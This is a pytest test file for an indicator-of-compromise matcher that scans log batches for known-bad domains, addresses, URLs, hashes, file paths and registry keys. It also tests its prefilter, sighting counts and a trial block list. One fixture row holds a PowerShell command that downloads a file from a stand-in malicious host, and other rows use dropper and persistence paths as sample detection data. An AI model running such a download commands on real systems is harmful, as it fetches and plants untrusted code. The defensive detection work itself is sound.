"""Indicators against batches: the sieve never holds back a hit; sightings say how often, when and where."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sekisho.engines.detection.indicators import Direction, Indicator, Kind, Lookup, Matcher, Role, normalise, try_block_list
from sekisho.engines.detection.indicators.columns import named_role, sniff
from sekisho.engines.detection.indicators.sieve import Sieve
from sekisho.engines.events.model import FILE, HOST, RECORD, TIME, Batch, Partition

LONG = "x" * 60 + ".a-long-name-that-goes-on.evil.org"
WANTED = {
    Kind.DOMAIN: ["evil.com", "a.b.evil.net", LONG, "xn--r8jz45g.jp", "bad.co.jp", "t.co", "bit.ly"],
    Kind.IP: ["1.2.3.4", "203.0.113.255", "2001:db8::1", "0.0.0.9"],
    Kind.NETWORK: ["198.51.100.0/24", "10.0.0.0/9", "2001:db8:1::/48", "192.0.2.128/25"],
    Kind.URL: [
        "http://files.net/a/b.php?x=1", "https://github.com/bad/REPO", "http://5.6.7.8/x", "http://h.io/%E3%81%82", "ftp://f.io/x",
        "http://root.io/", "http://q.io/?a=b", "http://p.io:8080/z",
    ],
    Kind.MD5: ["ab" * 16],
    Kind.SHA1: ["cd" * 20],
    Kind.SHA256: ["ef" * 32],
    Kind.SHA512: ["01" * 64],
}  # fmt: skip
PIECES = [
    "evil.com", "EVIL.com.", "sub.evil.com", "notevil.com", "a.b.evil.net", "b.evil.net", "1.2.3.4", "01.2.3.4", "001.002.003.004",
    "198.51.100.7", "::ffff:1.2.3.4", "[2001:db8::1]:443", "2001:DB8:1::5", "http://", "https://", "HTTPS://", "ftp://", "hxxp://", "/",
    "/a/b.php", "?x=1", "#f", "files.net", "github.com", "/bad/REPO", "/bad/repo", ":80", ":443", ":8080", "user@", "user:pw@", "%2e",
    "%41", "5.6.7.8", "84281096", "0x5060708", "/x", "\\x", "/./", "/../", "h.io", "/あ", "/%e3%81%82", "例え.jp", "xn--r8jz45g.jp", " ",
    "\t", "'", '"', "-", "", "root.io", "q.io", "?a=b", "p.io", "/z", "ab" * 16, "AB" * 16, "cd" * 20, "ef" * 32, "01" * 64, "SHA256=", "*.",
    ".", LONG, "10.5.5.5", "9.255.255.255", "192.0.2.200", "192.0.2.100", "f.io", "?", "bad.co.jp", "www.t.co", "a.bit.ly", "。", "m" * 70, "\n", "@", "[", "]",
]  # fmt: skip


def made(*pairs, **more):
    return [Indicator(kind=kind, value=normalise(kind, text), **more) for kind, text in pairs]


INDICATORS = made(*((kind, text) for kind, texts in WANTED.items() for text in texts))
LOOKUP = Lookup(INDICATORS)
SIEVE = Sieve(LOOKUP)


def held_back(role, rows, kind):
    array = pa.array(["", *rows], type=kind).slice(1)
    let_through = set(SIEVE.candidates(role, array).tolist())
    return [row for at, row in enumerate(rows) if row is not None and at not in let_through and LOOKUP.positions(role, row)]


@pytest.mark.parametrize("role", [Role.IP, Role.HOST, Role.URL, Role.HASH])
@pytest.mark.parametrize("kind", [pa.string(), pa.large_string()], ids=["string", "large_string"])
def test_the_sieve_holds_back_no_hit(role, kind):
    chance = random.Random(1)
    rows = ["".join(chance.choice(PIECES) for _ in range(chance.randint(1, 5))) for _ in range(20_000)]
    assert held_back(role, [*rows, None, ""], kind) == []


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from([Role.IP, Role.HOST, Role.URL, Role.HASH]),
    st.lists(st.one_of(st.none(), st.text(max_size=30), st.lists(st.sampled_from(PIECES), max_size=6).map("".join)), max_size=12),
)
def test_the_sieve_holds_back_no_hit_of_any_text(role, rows):
    assert held_back(role, rows, pa.string()) == []


def batch(columns, source="squid", start=datetime(2026, 11, 1, tzinfo=UTC)):
    size = len(next(iter(columns.values())))
    table = {
        TIME: pa.array([start + timedelta(minutes=n) for n in range(size)], type=pa.timestamp("us", tz="UTC")),
        FILE: pa.array(["access.log"] * size),
        RECORD: pa.array(range(1, size + 1), type=pa.int64()),
        HOST: pa.array([f"pc{n % 3}" for n in range(size)]),
    }
    return Batch(Partition(source), pa.table(table | {name: pa.array(values) for name, values in columns.items()}))


CASES = {
    "sub-domain": ("query", "x.y.EVIL.com.", Kind.DOMAIN, "evil.com"),
    "not a sub-domain": ("query", "notevil.com", Kind.DOMAIN, None),
    "domain of a URL": ("url", "https://www.evil.com/x?y", Kind.DOMAIN, "evil.com"),
    "CONNECT": ("url", "evil.com:443", Kind.DOMAIN, "evil.com"),
    "IDN in a log": ("host", "例え.jp", Kind.DOMAIN, "xn--r8jz45g.jp"),
    "address with port": ("dst_ip", "1.2.3.4:443", Kind.IP, "1.2.3.4"),
    "mapped address": ("SourceIp", "::ffff:1.2.3.4", Kind.IP, "1.2.3.4"),
    "padded address": ("src", "001.002.003.004", Kind.IP, "1.2.3.4"),
    "network": ("id.resp_h", "198.51.100.77", Kind.NETWORK, "198.51.100.0/24"),
    "network v6": ("DestinationIp", "2001:db8:1:2::3", Kind.NETWORK, "2001:db8:1::/48"),
    "address as a URL's host": ("url", "http://10.1.2.3/", Kind.NETWORK, "10.0.0.0/9"),
    "URL with other scheme, port and escapes": (
        "url",
        "HTTPS://FILES.net:443/%61/b.php?x=1#y",
        Kind.URL,
        "http://files.net/a/b.php?x=1",
    ),
    "other page of the site": ("url", "http://files.net/a", Kind.URL, None),
    "case of a path": ("url", "https://github.com/bad/repo", Kind.URL, None),
    "hash": ("sha256", "EF" * 32, Kind.SHA256, "ef" * 32),
    "hashes of Sysmon": ("Hashes", "MD5=" + "AB" * 16 + ",IMPHASH=" + "0" * 31 + "1", Kind.MD5, "ab" * 16),
}


@pytest.mark.parametrize("name", CASES)
def test_matched(name):
    column, text, kind, value = CASES[name]
    matcher = Matcher(INDICATORS)
    sightings = matcher.sightings()
    matcher.match([batch({column: ["-", text, None, ""]})], sightings)
    found = [(one.indicator.kind, one.indicator.value) for one in sightings.results()]
    assert found == ([] if value is None else [(kind, value)])


def test_kinds_that_are_compared_as_a_whole():
    wanted = made(
        (Kind.EMAIL, "evil@bad.jp"), (Kind.FILE_NAME, "Evil.exe"), (Kind.FILE_PATH, r"%TEMP%\drop.exe"),
        (Kind.REGISTRY, r"HKEY_CURRENT_USER\Software\Evil"), (Kind.IMPHASH, "12" * 16), (Kind.DOMAIN, "bad.jp"),
    )  # fmt: skip
    matcher = Matcher(wanted)
    sightings = matcher.sightings()
    rows = {
        "From": ["Evil <EVIL@bad.jp>", "ok@example.jp"],
        "Image": [r"C:\Tools\EVIL.exe", r"C:\Users\hanako\AppData\Local\Temp\drop.exe"],
        "TargetObject": [r"HKU\S-1-5-21-1-2-3-4\Software\Evil\Run", "HKLM\\Software"],
        "Hashes": ["SHA1=" + "0" * 40 + ",IMPHASH=" + "12" * 16, "-"],
        "CommandLine": ["powershell iwr http://cdn.bad.jp/x -o evil.exe", "dir"],
        "ObjectName": ["-", r"\REGISTRY\USER\S-1-5-21-1-2-3-4\Software\Evil"],
    }
    matcher.match([batch(rows, "windows")], sightings)
    assert {one.indicator.value: sorted(one.columns) for one in sightings.results()} == {
        "bad.jp": ["CommandLine", "From"],
        "evil@bad.jp": ["From"],
        "evil.exe": ["CommandLine", "Image"],
        "%userprofile%\\appdata\\local\\temp\\drop.exe": ["Image"],
        "hkcu\\software\\evil": ["ObjectName", "TargetObject"],
        "12" * 16: ["Hashes"],
    }


@pytest.mark.parametrize("rows", [5_000, 50_000], ids=["few hits", "many hits"])
@pytest.mark.parametrize("dictionary", [False, True], ids=["plain", "dictionary"])
def test_sightings_count_times_and_places(rows, dictionary):
    values = [f"www{n}.evil.com" if n % 2 else "www.example.jp" for n in range(rows)]
    one = batch({"host": values})
    if dictionary:
        at = one.table.column_names.index("host")
        one = Batch(one.partition, one.table.set_column(at, "host", one.table.column("host").dictionary_encode()))
    wanted = made((Kind.DOMAIN, "evil.com"), active_until=datetime(2026, 11, 1, 1, tzinfo=UTC))
    matcher = Matcher(wanted, workers=2)
    sightings = matcher.sightings(places=2)
    matcher.match([one], sightings)
    (seen,) = sightings.results()
    start = datetime(2026, 11, 1, tzinfo=UTC)
    assert (seen.count, seen.files, seen.columns) == (rows // 2, {"access.log": rows // 2}, {"host": rows // 2})
    assert (seen.first, seen.last) == (start + timedelta(minutes=1), start + timedelta(minutes=rows - 1))
    assert seen.outside_period == rows // 2 - 30
    assert [place.record for place in seen.places] == [2, 4]
    assert [place.value for place in seen.places] == ["www1.evil.com", "www3.evil.com"]
    assert seen.as_dict()["places_left_out"] == rows // 2 - 2
    assert sum(seen.hosts.values()) == rows // 2


def test_every_indicator_with_the_same_value_is_seen():
    twice = [*made((Kind.DOMAIN, "evil.com"), source="a"), *made((Kind.DOMAIN, "evil.com"), source="b")]
    matcher = Matcher(twice)
    sightings = matcher.sightings()
    matcher.match([batch({"host": ["evil.com"]})], sightings)
    assert [one.indicator.source for one in sightings.results()] == ["a", "b"]


def test_a_column_nobody_knows_is_decided_by_its_values():
    matcher = Matcher(INDICATORS)
    sightings = matcher.sightings()
    matcher.match([batch({"行き先": ["http://a.example/", "https://evil.com/x"], "n": ["1", "2"]})], sightings)
    assert [one.indicator.value for one in sightings.results()] == ["evil.com"]
    assert matcher.columns.decided() == {"squid": {"n": "", "行き先": "url"}}


def test_what_could_not_be_looked_at_is_said():
    matcher = Matcher(INDICATORS)
    matcher.match([batch({"n": ["1", "2"]}, "door")], matcher.sightings())
    assert (matcher.rows, matcher.without_columns) == (2, {"door": 2})


def test_without_indicators_or_rows():
    for matcher in (Matcher([]), Matcher(INDICATORS)):
        sightings = matcher.sightings()
        matcher.match(
            [batch({"url": [""], "host": [None], "ip": ["-"], "md5": ["x"]}), batch({"url": pa.array([], pa.string())})],
            sightings,
        )
        assert sightings.results() == []


@pytest.mark.parametrize(
    ("name", "role"),
    [
        ("id.resp_h", Role.IP),
        ("destination.ip", Role.IP),
        ("EventData.Image", Role.FILE),
        ("宛先IP", Role.IP),
        ("cs-uri", Role.URL),
        ("zzz", None),
    ],
)
def test_roles_by_name(name, role):
    assert named_role(name) is role


@pytest.mark.parametrize(
    ("values", "role"),
    [
        (["1.2.3.4", "a.example.jp", "::1"], Role.IP),
        (["http://a.jp/", "a.jp:443"], Role.URL),
        (["MD5=" + "0a" * 16], Role.HASHES),
        (["1", "2", "x"], None),
        ([], None),
    ],
)
def test_roles_by_values(values, role):
    assert sniff(values) is role


def test_false_block_test_counts_what_would_have_stopped():
    wanted = made((Kind.DOMAIN, "evil.com"), (Kind.DOMAIN, "unused.jp"), (Kind.MD5, "ab" * 16), direction=Direction.OUTBOUND)
    result = try_block_list(wanted, [batch({"host": ["cdn.evil.com"] * 4 + ["ok.jp"]})], many=3, often=100)
    assert (result.rows, result.tested, result.conclusive) == (5, 2, True)
    assert [(one.indicator.value, one.count) for one in result.stopped] == [("evil.com", 4)]
    assert [one.indicator.value for one in result.wide] == ["evil.com"], "three machines use it"
    assert not try_block_list(wanted, []).conclusive
    assert not try_block_list(wanted, [batch({"n": ["1"]}, "door")]).conclusive


def test_what_comes_in_is_handed_on_while_it_is_searched():
    matcher = Matcher(INDICATORS)
    sightings = matcher.sightings()
    given = [batch({"host": ["a.evil.com"]}), batch({"host": ["ok.example.jp"]})]
    assert list(matcher.through(iter(given), sightings)) == given
    assert [one.count for one in sightings.results()] == [1]


def test_a_first_batch_of_dashes_decides_nothing():
    matcher = Matcher(INDICATORS)
    sightings = matcher.sightings()
    matcher.match([batch({"行き先": ["-", "-", ""]}), batch({"行き先": ["evil.com", "ok.example.jp"]})], sightings)
    assert [one.indicator.value for one in sightings.results()] == ["evil.com"]
